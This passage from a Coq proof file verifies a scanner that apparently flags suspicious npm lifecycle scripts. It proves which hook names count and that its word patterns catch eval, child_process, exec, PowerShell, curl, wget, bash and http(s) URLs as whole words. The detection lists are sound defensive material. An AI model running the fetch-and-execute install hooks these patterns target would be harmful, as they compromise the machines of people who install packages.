        induction l as [|c l IHl]; [apply Nat.le_refl|].
        cbn [leading_space List.length]. destruct (is_space c); lia. }
      rewrite length_skipn in H. lia. }
    replace (Nat.eqb (RegExp.endIndex m) (RegExp.index m)) with false
      by (symmetry; apply Nat.eqb_neq; lia).
    cbn [RegExp.replace_matches]. rewrite (IH (RegExp.endIndex m)) by lia.
    rewrite (skipn_slice s li (RegExp.index m)) by lia.
    rewrite squeeze_plain.
    + f_equal.
      destruct (skipn (RegExp.index m) s) as [|c l] eqn:Hl; [discriminate Hrun|].
      cbn [leading_space] in Hrun. cbn [squeeze].
      destruct (is_space c); [|discriminate Hrun].
      injection Hrun as Hrun. change (u " ") with [32%N]. cbn [app]. f_equal.
      rewrite squeeze_run, Hrun. f_equal.
      replace (RegExp.endIndex m) with (S n + RegExp.index m) by lia.
      rewrite <- skipn_skipn, Hl. reflexivity.
    + apply Forall_forall. intros x Hx. apply slice_between in Hx.
      destruct Hx as (j & Hj & Hx).
      apply (no_match_no_space s j x); [lia|apply Hn; exact Hj|exact Hx].
  - cbn [RegExp.replace_matches].
    rewrite <- (app_nil_r (skipn li s)) at 2. rewrite squeeze_plain.
    + cbn [squeeze]. rewrite app_nil_r. reflexivity.
    + apply Forall_forall. intros x Hx. apply skipn_from in Hx.
      destruct Hx as (j & Hj & Hx).
      assert (Hlt : j < List.length s) by (apply nth_error_Some; rewrite Hx; discriminate).
      apply (no_match_no_space s j x); [lia| |exact Hx].
      apply (search_nothing WHITESPACE s _ li Hs j). lia.
Qed.

Lemma squeeze_shape (s : jsstring) : forall b,
  List.length (squeeze b s) <= List.length s /\ Forall in_one_line (squeeze b s).
Proof.
  induction s as [|c s IH]; intros b; [split; [apply Nat.le_refl|constructor]|].
  cbn [squeeze]. destruct (is_space c) eqn:E.
  - destruct b.
    + destruct (IH true) as [Hl Hf]. split; [cbn [List.length]; lia|exact Hf].
    + destruct (IH true) as [Hl Hf]. split; [cbn [List.length]; lia|].
      constructor; [right; reflexivity|exact Hf].
  - destruct (IH false) as [Hl Hf]. split; [cbn [List.length]; lia|].
    constructor; [left; exact E|exact Hf].
Qed.

(** Extra X20. A snippet is the text from [span/2] code units before
    the position to [span/2] code units after it, cut at the ends of the
    text, in which every run of white space, line breaks included, has
    become one plain space.  So it is one line of at most [span] code
    units, at most 140 for the span with which the script calls it, and no
    other white space is left in it. *)
Theorem sliceSnippet_is_one_short_line (text : jsstring) (idx span : nat) :
  sliceSnippet text idx span
  = squeeze false (slice text (idx - Nat.div span 2)
                         (Nat.min (List.length text) (idx + Nat.div span 2)))
  /\ List.length (sliceSnippet text idx span) <= 2 * Nat.div span 2
  /\ List.length (sliceSnippet text idx span) <= span
  /\ Forall in_one_line (sliceSnippet text idx span).
Proof.
  assert (E : sliceSnippet text idx span
              = squeeze false (slice text (idx - Nat.div span 2)
                                     (Nat.min (List.length text) (idx + Nat.div span 2)))).
  { unfold sliceSnippet. cbv zeta. unfold RegExp.String_replace, RegExp.all_matches.
    rewrite Nat.max_0_l.
    rewrite whitespace_squeezed by lia. reflexivity. }
  split; [exact E|]. rewrite E.
  set (s := slice text (idx - Nat.div span 2)
                  (Nat.min (List.length text) (idx + Nat.div span 2))).
  destruct (squeeze_shape s false) as [Hl Hf].
  assert (Hs : List.length s <= 2 * Nat.div span 2).
  { unfold s, slice. rewrite length_firstn. lia. }
  pose proof (Nat.Div0.mul_div_le span 2).
  split; [lia|]. split; [lia|exact Hf].
Qed.

(* ================================================================== *)
(** ** The lifecycle scripts of a manifest *)

Local Close Scope Z_scope.

Section Literals.
Variable ic : bool.
Variable s : jsstring.

Lemma lit_matcher (w : jsstring) (i : nat) (cap : RegExp.captures) (k : RegExp.cont) :
  RegExp.matcher ic s (RegExp.lit_chars w) i cap k
  = if reads ic s w i then k (i + List.length w) cap else None.
Proof.
  revert i. induction w as [|c w IH]; intros i.
  - cbn [RegExp.lit_chars RegExp.matcher reads List.length]. rewrite Nat.add_0_r. reflexivity.
  - destruct w as [|c' w].
    + cbn [RegExp.lit_chars RegExp.matcher reads List.length].
      destruct (nth_error s i) as [x|]; [|reflexivity].
      rewrite andb_true_r, Nat.add_1_r. reflexivity.
    + change (RegExp.lit_chars (c :: c' :: w))
        with (RegExp.Seq (RegExp.Char c) (RegExp.lit_chars (c' :: w))).
      cbn [RegExp.matcher].
      change (reads ic s (c :: c' :: w) i)
        with (match nth_error s i with
              | Some x => N.eqb (RegExp.canonicalize ic x) (RegExp.canonicalize ic c)
                          && reads ic s (c' :: w) (S i)
              | None => false
              end).
      destruct (nth_error s i) as [x|]; [|reflexivity].
      destruct (N.eqb _ _); [|reflexivity]. cbn [andb].
      rewrite IH.
      replace (S i + List.length (c' :: w)) with (i + List.length (c :: c' :: w))
        by (cbn [List.length]; lia).
      reflexivity.
Qed.

Lemma reads_length (w : jsstring) (i : nat) :
  i <= List.length s -> reads ic s w i = true -> i + List.length w <= List.length s.
Proof.
  revert i. induction w as [|c w IH]; intros i Hi H; cbn [reads List.length] in *; [lia|].
  destruct (nth_error s i) as [x|] eqn:Hx; [|discriminate H].
  apply andb_prop in H. destruct H as [_ H].
  assert (i < List.length s) by (apply nth_error_Some; rewrite Hx; discriminate).
  specialize (IH (S i) ltac:(lia) H). lia.
Qed.

Lemma skipn_nth (i : nat) (x : N) :
  nth_error s i = Some x -> skipn i s = x :: skipn (S i) s.
Proof.
  revert i. induction s as [|y l IH]; intros [|i] H; try discriminate H.
  - inversion H. reflexivity.
  - cbn [nth_error] in H. cbn [skipn]. rewrite (IH i H). reflexivity.
Qed.

(** Reading a literal up to the end of [s] is equality, letter case
    apart. *)
Lemma reads_all (w : jsstring) (i : nat) :
  i <= List.length s ->
  reads ic s w i && Nat.eqb (i + List.length w) (List.length s) = true
  <-> map (RegExp.canonicalize ic) (skipn i s) = map (RegExp.canonicalize ic) w.
Proof.
  revert i. induction w as [|c w IH]; intros i Hi; cbn [reads List.length map].
  - rewrite Nat.add_0_r. cbn [andb]. rewrite Nat.eqb_eq. split.
    + intros ->. rewrite skipn_all. reflexivity.
    + intros H. apply map_eq_nil in H. apply (f_equal (@List.length N)) in H.
      rewrite length_skipn in H. cbn [List.length] in H. lia.
  - destruct (nth_error s i) as [x|] eqn:Hx.
    + assert (Hlt : i < List.length s) by (apply nth_error_Some; rewrite Hx; discriminate).
      rewrite (skipn_nth i x Hx). cbn [map].
      replace (i + S (List.length w)) with (S i + List.length w) by lia.
      rewrite <- andb_assoc, andb_true_iff, N.eqb_eq, (IH (S i) ltac:(lia)).
      split; [intros [-> ->]; reflexivity|intros H; inversion H; split; reflexivity].
    + apply nth_error_None in Hx. cbn [andb].
      assert (E : skipn i s = []) by (apply skipn_all2; exact Hx).
      rewrite E. cbn [map]. split; discriminate.
Qed.

Lemma reads_app (w w' : jsstring) (i : nat) :
  reads ic s (w ++ w') i = reads ic s w i && reads ic s w' (i + List.length w).
Proof.
  revert i. induction w as [|c w IH]; intros i; cbn [app reads List.length].
  - rewrite Nat.add_0_r. reflexivity.
  - destruct (nth_error s i) as [x|]; [|reflexivity].
    rewrite IH, andb_assoc. replace (S i + List.length w) with (i + S (List.length w)) by lia.
    reflexivity.
Qed.
End Literals.

Lemma matcher_Group (ic : bool) (s : jsstring) (n : nat) (a : RegExp.regex) (i : nat)
  (cap : RegExp.captures) (k : RegExp.cont) :
  RegExp.matcher ic s (RegExp.Group n a) i cap k
  = RegExp.matcher ic s a i cap
      (fun j cap' => k j ((n, (i, j)) :: RegExp.drop_group n cap')).
Proof. reflexivity. Qed.

Lemma search_Bol (ic : bool) (r : RegExp.regex) (s : jsstring) (n i : nat) :
  RegExp.search {| RegExp.source := RegExp.Seq RegExp.Bol r; RegExp.global := false;
                   RegExp.ignoreCase := ic |} s (S i) n = None.
Proof.
  revert i. induction n as [|n IH]; intros i; [reflexivity|].
  cbn [RegExp.search RegExp.source RegExp.ignoreCase RegExp.matcher Nat.eqb]. apply IH.
Qed.

(** The alternatives of [LIFECYCLE], one after the other. *)
Lemma nameHit_reads (k : jsstring) :
  nameHit k
  = (reads true k (u "postinstall") 0 && Nat.eqb 11 (List.length k))
    || (reads true k (u "preinstall") 0 && Nat.eqb 10 (List.length k))
    || (reads true k (u "install") 0 && Nat.eqb 7 (List.length k))
    || (reads true k (u "prepare") 0 && Nat.eqb 7 (List.length k))
    || (reads true k (u "prepublish") 0 && Nat.eqb 10 (List.length k))
    || (reads true k (u "prepublishOnly") 0 && Nat.eqb 14 (List.length k)).
Proof.
  unfold nameHit, RegExp.test0, RegExp.test, RegExp.exec, LIFECYCLE, re_i.
  cbn [RegExp.global]. unfold RegExp.search_from. rewrite Nat.sub_0_r.
  cbn [RegExp.search RegExp.source RegExp.ignoreCase RegExp.seqs RegExp.alts].
  rewrite search_Bol.
  cbn [RegExp.matcher]. rewrite Nat.eqb_refl. unfold RegExp.lit. rewrite !lit_matcher.
  change (0 + List.length (u "postinstall")) with 11.
  change (0 + List.length (u "preinstall")) with 10.
  change (0 + List.length (u "install")) with 7.
  change (0 + List.length (u "prepare")) with 7.
  change (0 + List.length (u "prepublish")) with 10.
  change (u "prepublishOnly") with (u "prepublish" ++ u "Only"). rewrite reads_app.
  change (0 + List.length (u "prepublish")) with 10.
  destruct (Nat.eqb_spec 11 (List.length k)) as [L11|L11];
    destruct (Nat.eqb_spec 10 (List.length k)) as [L10|L10];
    destruct (Nat.eqb_spec 7 (List.length k)) as [L7|L7];
    destruct (Nat.eqb_spec 14 (List.length k)) as [L14|L14]; try lia;
    destruct (reads true k (u "postinstall") 0); cbn [andb orb]; try reflexivity;
    destruct (reads true k (u "preinstall") 0); cbn [andb orb]; try reflexivity;
    destruct (reads true k (u "install") 0); cbn [andb orb]; try reflexivity;
    destruct (reads true k (u "prepare") 0); cbn [andb orb]; try reflexivity;
    (destruct (reads true k (u "prepublish") 0) eqn:Hp; [|reflexivity]); cbn [andb orb];
    pose proof (reads_length true k (u "prepublish") 0 (Nat.le_0_l _) Hp) as Hlen;
    change (0 + List.length (u "prepublish")) with 10 in Hlen;
    unfold RegExp.opt; rewrite Rep_unfold by exact Hlen; cbv zeta;
    change (Nat.eqb 0 0) with true; cbv iota;
    rewrite matcher_Group, lit_matcher; cbv beta;
    change (10 + List.length (u "Only")) with 14;
    change (true && Nat.eqb 14 10) with false; cbv iota;
    cbn [Nat.pred option_map];
    (destruct (reads true k (u "Only") 10) eqn:Ho;
     [pose proof (reads_length true k (u "Only") 10 Hlen Ho) as Hlen';
      change (10 + List.length (u "Only")) with 14 in Hlen';
      rewrite Rep_unfold by exact Hlen'|]);
    destruct (Nat.eqb_spec 14 (List.length k)), (Nat.eqb_spec 10 (List.length k));
    cbn [andb orb]; try reflexivity; lia.
Qed.

Lemma same_letters (k : jsstring) (w : string) :
  reads true k (u w) 0 && Nat.eqb (List.length (u w)) (List.length k) = true
  <-> map (RegExp.canonicalize true) k = map (RegExp.canonicalize true) (u w).
Proof. apply (reads_all true k (u w) 0). apply Nat.le_0_l. Qed.

(** Extra X21. A script of a manifest counts as a lifecycle script
    exactly when its name is, letter case apart, one of postinstall,
    preinstall, install, prepare, prepublish and prepublishOnly: names
    that only contain one of them, or other hooks such as prepack or
    postuninstall, do not count. *)
Theorem lifecycle_script_names (k : jsstring) :
  nameHit k = true
  <-> exists w, In w lifecycle_names
                /\ map (RegExp.canonicalize true) k = map (RegExp.canonicalize true) (u w).
Proof.
  rewrite nameHit_reads, !orb_true_iff.
  change 11 with (List.length (u "postinstall")).
  change 10 with (List.length (u "preinstall")) at 1.
  change 7 with (List.length (u "install")) at 1.
  change 7 with (List.length (u "prepare")).
  change 10 with (List.length (u "prepublish")).
  change 14 with (List.length (u "prepublishOnly")).
  rewrite !same_letters. unfold lifecycle_names. split.
  - intros [[[[[H|H]|H]|H]|H]|H]; eexists; (split; [|exact H]); cbn; auto 10.
  - intros (w & Hw & H). cbn [In] in Hw.
    destruct Hw as [<-|[<-|[<-|[<-|[<-|[<-|[]]]]]]]; auto 10.
Qed.

(* ================================================================== *)
(** ** What the patterns of the manifest branch find *)

Lemma test0_accepted (re : RegExp.t) (s : jsstring) :
  RegExp.test0 re s = true
  <-> exists i, i <= List.length s
                /\ accepted (RegExp.matcher (RegExp.ignoreCase re) s (RegExp.source re)
                                            i [] found) = true.
Proof.
  assert (H : RegExp.test0 re s
              = match RegExp.search_from re s 0 with Some _ => true | None => false end).
  { unfold RegExp.test0, RegExp.test, RegExp.exec.
    destruct (RegExp.global re); destruct (RegExp.search_from re s 0); reflexivity. }
  rewrite H. unfold RegExp.search_from. rewrite Nat.sub_0_r.
  destruct (RegExp.search re s 0 (S (List.length s))) as [m|] eqn:Hs.
  - split; [intros _|reflexivity].
    destruct (search_found _ _ _ _ _ Hs) as (Hm & Hr & _).
    exists (RegExp.index m). split; [lia|]. rewrite Hm. reflexivity.
  - split; [discriminate|]. intros (i & Hi & Ha).
    rewrite (search_nothing _ _ _ _ Hs i ltac:(lia)) in Ha. discriminate Ha.
Qed.

Section Alternatives.
Variable ic : bool.
Variable s : jsstring.

Lemma matcher_Alt (a b : RegExp.regex) (i : nat) (cap : RegExp.captures) (k : RegExp.cont) :
  accepted (RegExp.matcher ic s (RegExp.Alt a b) i cap k)
  = accepted (RegExp.matcher ic s a i cap k) || accepted (RegExp.matcher ic s b i cap k).
Proof. cbn [RegExp.matcher]. destruct (RegExp.matcher ic s a i cap k); reflexivity. Qed.

(** An alternative of literals is accepted when one of them is read and
    the continuation accepts behind it. *)
Lemma lit_alts (w : string) (ws : list string) (i : nat) (cap : RegExp.captures)
  (k : RegExp.cont) :
  accepted (RegExp.matcher ic s (RegExp.alts (map RegExp.lit (w :: ws))) i cap k)
  = existsb (fun w => reads ic s (u w) i && accepted (k (i + List.length (u w)) cap))
            (w :: ws).
Proof.
  revert w. induction ws as [|w' ws IH]; intros w.
  - cbn [map RegExp.alts existsb]. unfold RegExp.lit. rewrite lit_matcher, orb_false_r.
    destruct (reads ic s (u w) i); reflexivity.
  - change (RegExp.alts (map RegExp.lit (w :: w' :: ws)))
      with (RegExp.Alt (RegExp.lit w) (RegExp.alts (map RegExp.lit (w' :: ws)))).
    rewrite matcher_Alt, IH. cbn [existsb]. f_equal.
    unfold RegExp.lit. rewrite lit_matcher. destruct (reads ic s (u w) i); reflexivity.
Qed.

(** The patterns of the form [\b(w1|w2|...)\b]. *)
Lemma whole_word_at (w : string) (ws : list string) (i : nat) :
  accepted (RegExp.matcher ic s
              (RegExp.seqs [RegExp.WordBoundary;
                            RegExp.Group 1 (RegExp.alts (map RegExp.lit (w :: ws)));
                            RegExp.WordBoundary]) i [] found)
  = boundary s i
    && existsb (fun w => reads ic s (u w) i && boundary s (i + List.length (u w))) (w :: ws).
Proof.
  change (RegExp.seqs [RegExp.WordBoundary;
                       RegExp.Group 1 (RegExp.alts (map RegExp.lit (w :: ws)));
                       RegExp.WordBoundary])
    with (RegExp.Seq RegExp.WordBoundary
            (RegExp.Seq (RegExp.Group 1 (RegExp.alts (map RegExp.lit (w :: ws))))
                        RegExp.WordBoundary)).
  cbn [RegExp.matcher]. fold (boundary s i).
  destruct (boundary s i); [|reflexivity]. cbn [andb].
  rewrite lit_alts.
  induction (w :: ws) as [|x l IH]; [reflexivity|].
  cbn [existsb]. rewrite IH. f_equal. f_equal.
  fold (boundary s (i + List.length (u x))).
  destruct (boundary s (i + List.length (u x))); reflexivity.
Qed.
End Alternatives.

Lemma whole_word_test (ic : bool) (w : string) (ws : list string) (s : jsstring) :
  RegExp.test0 {| RegExp.source :=
                    RegExp.seqs [RegExp.WordBoundary;
                                 RegExp.Group 1 (RegExp.alts (map RegExp.lit (w :: ws)));
                                 RegExp.WordBoundary];
                  RegExp.global := false; RegExp.ignoreCase := ic |} s = true
  <-> exists x, In x (w :: ws) /\ whole_word ic s x.
Proof.
  rewrite test0_accepted. cbn [RegExp.source RegExp.ignoreCase]. split.
  - intros (i & _ & Ha). rewrite whole_word_at in Ha.
    apply andb_prop in Ha. destruct Ha as [Hb Hex].
    apply existsb_exists in Hex. destruct Hex as (x & Hx & Hr).
    apply andb_prop in Hr. destruct Hr as [Hr Hb'].
    exists x. split; [exact Hx|]. exists i. repeat split; assumption.
  - intros (x & Hx & i & Hr & Hb & Hb').
    assert (Hi : i <= List.length s).
    { destruct (u x) as [|c l] eqn:E.
      - destruct (Nat.le_gt_cases i (List.length s)) as [H|H]; [exact H|].
        exfalso. unfold boundary, RegExp.word_before, RegExp.word_at in Hb.
        destruct i as [|j]; [lia|].
        rewrite (proj2 (nth_error_None s (S j))) in Hb by lia.
        cbn [List.length] in Hb'. rewrite Nat.add_0_r in Hb'.
        unfold boundary, RegExp.word_before, RegExp.word_at in Hb'.
        rewrite (proj2 (nth_error_None s (S j))) in Hb' by lia.
        destruct (nth_error s j) as [y|] eqn:Hy.
        + assert (j < List.length s) by (apply nth_error_Some; rewrite Hy; discriminate). lia.
        + discriminate Hb.
      - cbn [reads] in Hr. destruct (nth_error s i) as [y|] eqn:Hy; [|discriminate Hr].
        assert (i < List.length s) by (apply nth_error_Some; rewrite Hy; discriminate). lia. }
    exists i. split; [exact Hi|]. rewrite whole_word_at, Hb. cbn [andb].
    apply existsb_exists. exists x. split; [exact Hx|]. rewrite Hr, Hb'. reflexivity.
Qed.

(** Extra X22. The word patterns of the manifest branch find whole
    words only: DANGEROUS, the interpreter pattern and the pattern of
    shells and fetchers accept a text exactly when one of their words
    stands in it, in the letter case of the pattern, with a word boundary
    before and behind; a longer identifier that merely contains the
    word, such as bashrc or execute, is not a hit. *)
Theorem word_patterns_find_whole_words (v : jsstring) :
  (RegExp.test0 DANGEROUS v = true
   <-> exists w, In w ["eval"; "Function"; "child_process"; "spawn"; "exec"; "execFile";
                       "PowerShell"; "WScript.Shell"]
                 /\ whole_word false v w)
  /\ (RegExp.test0 INTERPRETER v = true
      <-> exists w, In w ["node"; "sh"; "bash"; "powershell"] /\ whole_word false v w)
  /\ (RegExp.test0 SHELL_OR_FETCHER v = true
      <-> exists w, In w ["sh"; "bash"; "powershell"; "curl"; "wget"; "node"]
                    /\ whole_word false v w).
Proof.
  split; [|split].
  - apply (whole_word_test false "eval"
             ["Function"; "child_process"; "spawn"; "exec"; "execFile"; "PowerShell";
              "WScript.Shell"]).
  - apply (whole_word_test false "node" ["sh"; "bash"; "powershell"]).
  - apply (whole_word_test false "sh" ["bash"; "powershell"; "curl"; "wget"; "node"]).
Qed.

Section Classes.
Variable ic : bool.
Variable s : jsstring.

(** One or more code units of a class are found where the first one is
    in the class. *)
Lemma plus_class_at (neg : bool) (rs : list (N * N)) (i : nat) (cap : RegExp.captures) :
  i <= List.length s ->
  accepted (RegExp.matcher ic s (RegExp.plus (RegExp.Class neg rs)) i cap found)
  = match nth_error s i with
    | Some x => xorb neg (RegExp.class_matches ic rs x)
    | None => false
    end.
Proof.
  intros Hi. unfold RegExp.plus. rewrite Rep_unfold by exact Hi. cbv zeta.
  change (Nat.eqb 1 0) with false. cbv iota. rewrite matcher_Class.
  destruct (nth_error s i) as [x|] eqn:Hx; [|reflexivity].
  destruct (xorb neg (RegExp.class_matches ic rs x)); [|reflexivity].
  cbn [andb Nat.pred option_map].
  assert (Hs : S i <= List.length s).
  { apply Nat.le_succ_l. apply nth_error_Some. rewrite Hx. discriminate. }
  rewrite Rep_unfold by exact Hs. cbv zeta. change (Nat.eqb 0 0) with true. cbv iota.
  destruct (RegExp.matcher ic s _ (S i) _ _); reflexivity.
Qed.

Lemma matcher_Char (c : N) (i : nat) (cap : RegExp.captures) (k : RegExp.cont) :
  RegExp.matcher ic s (RegExp.Char c) i cap k
  = match nth_error s i with
    | Some x => if N.eqb (RegExp.canonicalize ic x) (RegExp.canonicalize ic c)
                then k (S i) cap else None
    | None => None
    end.
Proof. reflexivity. Qed.

(** An optional literal code unit: with it or, failing that, without. *)
Lemma opt_char_at (c : N) (i : nat) (cap : RegExp.captures) (k : RegExp.cont) :
  i <= List.length s ->
  accepted (RegExp.matcher ic s (RegExp.opt (RegExp.Char c)) i cap k)
  = (reads ic s [c] i && accepted (k (S i) cap)) || accepted (k i cap).
Proof.
  intros Hi. unfold RegExp.opt. rewrite Rep_unfold by exact Hi. cbv zeta.
  change (Nat.eqb 0 0) with true. cbv iota.
  rewrite matcher_Char. change (RegExp.clear_groups (RegExp.Char c) cap) with cap.
  cbn [reads].
  destruct (nth_error s i) as [x|] eqn:Hx.
  - rewrite andb_true_r.
    destruct (N.eqb (RegExp.canonicalize ic x) (RegExp.canonicalize ic c)); cbn [andb orb].
    + rewrite Nat.eqb_sym, (proj2 (Nat.eqb_neq i (S i))) by lia. cbn [andb].
      assert (Hs : S i <= List.length s).
      { apply Nat.le_succ_l. apply nth_error_Some. rewrite Hx. discriminate. }
      cbn [Nat.pred option_map]. rewrite Rep_unfold by exact Hs.
      destruct (k (S i) _); reflexivity.
    + reflexivity.
  - reflexivity.
Qed.
End Classes.

Lemma matcher_Seq (ic : bool) (s : jsstring) (a b : RegExp.regex) (i : nat)
  (cap : RegExp.captures) (k : RegExp.cont) :
  RegExp.matcher ic s (RegExp.Seq a b) i cap k
  = RegExp.matcher ic s a i cap (fun j cap' => RegExp.matcher ic s b j cap' k).
Proof. reflexivity. Qed.

Lemma reads_within (ic : bool) (s : jsstring) (c : N) (w : jsstring) (i : nat) :
  reads ic s (c :: w) i = true -> i < List.length s.
Proof.
  cbn [reads]. destruct (nth_error s i) as [x|] eqn:Hx; [|discriminate].
  intros _. apply nth_error_Some. rewrite Hx. discriminate.
Qed.

(** No letter ends a URL, so the class is the same with and without the
    ignoreCase flag. *)
Lemma url_stops_no_letter (y : N) :
  RegExp.in_ranges url_stops y = true ->
  ((y < 65)%N \/ (90 < y)%N) /\ ((y < 97)%N \/ (122 < y)%N).
Proof.
  unfold RegExp.in_ranges. intros H. apply existsb_exists in H.
  destruct H as (r & Hr & Hb). apply andb_prop in Hb. destruct Hb as [Hl Hu].
  apply N.leb_le in Hl, Hu.
  unfold url_stops, RegExp.space in Hr. cbn [app In] in Hr.
  repeat (destruct Hr as [<-|Hr];
          [match type of Hl with
           | (fst ?r <= _)%N =>
               let a := eval vm_compute in (fst r) in
               let b := eval vm_compute in (snd r) in
               change (fst r) with a in Hl; change (snd r) with b in Hu
           end; split; lia|]).
  contradiction.
Qed.

Lemma url_stops_class (x : N) :
  RegExp.class_matches true url_stops x = RegExp.in_ranges url_stops x.
Proof.
  unfold RegExp.class_matches. cbn [andb].
  assert (Hl : RegExp.is_lower x && RegExp.in_ranges url_stops (x - 32) = false).
  { destruct (RegExp.in_ranges url_stops (x - 32)) eqn:H; [|apply andb_false_r].
    apply url_stops_no_letter in H. unfold RegExp.is_lower.
    destruct (N.leb_spec 97 x), (N.leb_spec x 122); cbn [andb]; try reflexivity; lia. }
  assert (Hu : RegExp.is_upper x && RegExp.in_ranges url_stops (x + 32) = false).
  { destruct (RegExp.in_ranges url_stops (x + 32)) eqn:H; [|apply andb_false_r].
    apply url_stops_no_letter in H. unfold RegExp.is_upper.
    destruct (N.leb_spec 65 x), (N.leb_spec x 90); cbn [andb]; try reflexivity; lia. }
  rewrite Hl, Hu. cbn [orb]. apply orb_false_r.
Qed.

(** Behind the scheme: [://] and a code unit of a URL. *)
Lemma url_tail (s : jsstring) (j : nat) (cap : RegExp.captures) :
  j <= List.length s ->
  accepted (RegExp.matcher true s
              (RegExp.Seq (RegExp.lit "://")
                 (RegExp.plus (RegExp.Class true
                    (RegExp.space ++ [RegExp.cp 34%N; RegExp.one "'"; RegExp.one "`";
                                      RegExp.one "<"; RegExp.one ">"; RegExp.one "{";
                                      RegExp.one "}"])))) j cap found)
  = reads true s (u "://") j
    && match nth_error s (j + 3) with Some x => url_unit x | None => false end.
Proof.
  intros Hj. rewrite matcher_Seq. unfold RegExp.lit. rewrite lit_matcher.
  destruct (reads true s (u "://") j) eqn:Hr; [|reflexivity]. cbn [andb].
  pose proof (reads_length true s (u "://") j Hj Hr) as Hlen.
  change (List.length (u "://")) with 3 in *.
  rewrite plus_class_at by exact Hlen. fold url_stops.
  destruct (nth_error s (j + 3)) as [x|]; [|reflexivity].
  rewrite url_stops_class. reflexivity.
Qed.

Lemma HTTP_at (s : jsstring) (i : nat) :
  i <= List.length s ->
  accepted (RegExp.matcher true s (RegExp.source HTTP) i [] found) = true
  <-> url_at s "http://" i \/ url_at s "https://" i.
Proof.
  intros Hi. unfold url_at.
  change (u "http://") with (u "http" ++ u "://").
  change (u "https://") with (u "http" ++ u "s" ++ u "://").
  rewrite !reads_app.
  change (List.length (u "http" ++ u "://")) with 7.
  change (List.length (u "http" ++ u "s" ++ u "://")) with 8.
  change (List.length (u "http")) with 4. change (List.length (u "s")) with 1.
  unfold HTTP, re_i. cbn [RegExp.source RegExp.seqs].
  rewrite matcher_Seq. unfold RegExp.lit at 1. rewrite lit_matcher.
  change (List.length (u "http")) with 4.
  destruct (reads true s (u "http") i) eqn:Hh.
  2:{ cbn [andb accepted]. split; [discriminate|]. intros [[H _]|[H _]]; discriminate H. }
  pose proof (reads_length true s (u "http") i Hi Hh) as Hlen.
  change (List.length (u "http")) with 4 in Hlen.
  rewrite matcher_Seq.
  change (RegExp.lit "s") with (RegExp.Char 115%N).
  rewrite opt_char_at by exact Hlen.
  change (u "s") with [115%N].
  rewrite orb_true_iff, andb_true_iff. cbn [andb].
  rewrite (url_tail s (i + 4) []) by exact Hlen.
  replace (i + 4 + 3) with (i + 7) by lia.
  split.
  - intros [[Hs Ha]|Ha].
    + right. pose proof (reads_within _ _ _ _ _ Hs) as Hlt.
      rewrite (url_tail s (S (i + 4)) []) in Ha by lia.
      replace (S (i + 4)) with (i + 4 + 1) in Ha by lia.
      replace (i + 4 + 1 + 3) with (i + 8) in Ha by lia.
      apply andb_prop in Ha. destruct Ha as [Hr Hx]. rewrite Hs, Hr.
      split; [reflexivity|].
      destruct (nth_error s (i + 8)) as [x|]; [|discriminate Hx]. exists x. auto.
    + left. apply andb_prop in Ha. destruct Ha as [Hr Hx]. rewrite Hr.
      split; [reflexivity|].
      destruct (nth_error s (i + 7)) as [x|]; [|discriminate Hx]. exists x. auto.
  - intros [[Hr (x & Hx & Hu)]|[Hr (x & Hx & Hu)]].
    + right. rewrite Hr, Hx. exact Hu.
    + left. apply andb_prop in Hr. destruct Hr as [Hs Hr].
      split; [exact Hs|]. pose proof (reads_within _ _ _ _ _ Hs) as Hlt.
      rewrite (url_tail s (S (i + 4)) []) by lia.
      replace (S (i + 4)) with (i + 4 + 1) by lia.
      replace (i + 4 + 1 + 3) with (i + 8) by lia.
      rewrite Hr, Hx. exact Hu.
Qed.

(** Extra X23. [HTTP] accepts a text exactly when somewhere in it
    stands http:// or https://, in any letter case, followed by a code
    unit that is neither white space nor a double quote, a single quote,
    a backquote, an angle bracket or a brace; the scheme alone, with
    nothing or with such a character behind it, is not a URL. *)
Theorem HTTP_finds_urls (v : jsstring) :
  RegExp.test0 HTTP v = true
  <-> exists i, url_at v "http://" i \/ url_at v "https://" i.
Proof.
  rewrite test0_accepted. change (RegExp.ignoreCase HTTP) with true. split.
  - intros (i & Hi & Ha). exists i. apply HTTP_at; assumption.
  - intros (i & H). exists i.
    assert (Hi : i <= List.length v).
    { destruct H as [[Hr _]|[Hr _]];
        apply (reads_within true v 104%N) in Hr; lia. }
    split; [exact Hi|]. apply HTTP_at; assumption.
Qed.

Local Close Scope Z_scope.

Section Star.
Variable ic : bool.
Variable s : jsstring.

Lemma matcher_Any (i : nat) (cap : RegExp.captures) (k : RegExp.cont) :
  RegExp.matcher ic s RegExp.Any i cap k
  = match nth_error s i with
    | Some x => if RegExp.is_line_terminator x then None else k (S i) cap
    | None => None
    end.
Proof. reflexivity. Qed.

(** [.*] passes any stretch of one line; what is accepted behind it is
    accepted behind the pattern. *)
Lemma star_Any_at (k : RegExp.cont) (behind : nat -> bool) (n i : nat)
  (cap : RegExp.captures) :
  (forall p c, accepted (k p c) = behind p) ->
  List.length s - i <= n -> i <= List.length s ->
  accepted (RegExp.matcher ic s (RegExp.star RegExp.Any) i cap k) = true
  <-> exists p, i <= p <= List.length s /\ one_line s i p /\ behind p = true.
Proof.
  intros Hk. revert i cap. induction n as [|n IH]; intros i cap Hn Hi.
  - unfold RegExp.star. rewrite Rep_unfold by exact Hi. cbv zeta.
    change (Nat.eqb 0 0) with true. cbv iota. rewrite matcher_Any.
    rewrite (proj2 (nth_error_None s i)) by lia. rewrite Hk. split.
    + intros H. exists i. split; [lia|]. split; [|exact H]. intros t x Ht. lia.
    + intros (p & Hp & _ & Hb). replace i with p by lia. exact Hb.
  - unfold RegExp.star. rewrite Rep_unfold by exact Hi. cbv zeta.
    change (Nat.eqb 0 0) with true. cbv iota. rewrite matcher_Any.
    change (RegExp.clear_groups RegExp.Any cap) with cap.
    destruct (nth_error s i) as [x|] eqn:Hx.
    + assert (Hlt : i < List.length s) by (apply nth_error_Some; rewrite Hx; discriminate).
      destruct (RegExp.is_line_terminator x) eqn:Hterm.
      * rewrite Hk. split.
        -- intros H. exists i. split; [lia|]. split; [|exact H]. intros t y Ht. lia.
        -- intros (p & Hp & Hline & Hb).
           destruct (Nat.eq_dec p i) as [->|Hne]; [exact Hb|].
           rewrite (Hline i x ltac:(lia) Hx) in Hterm. discriminate Hterm.
      * cbn [andb]. rewrite Nat.eqb_sym, (proj2 (Nat.eqb_neq i (S i))) by lia.
        cbn [Nat.pred option_map].
        fold (RegExp.star RegExp.Any).
        specialize (IH (S i) cap ltac:(lia) ltac:(lia)).
        destruct (RegExp.matcher ic s (RegExp.star RegExp.Any) (S i) cap k) as [z|] eqn:Hm.
        -- split; [intros _|reflexivity].
           destruct (proj1 IH eq_refl) as (p & Hp & Hline & Hb).
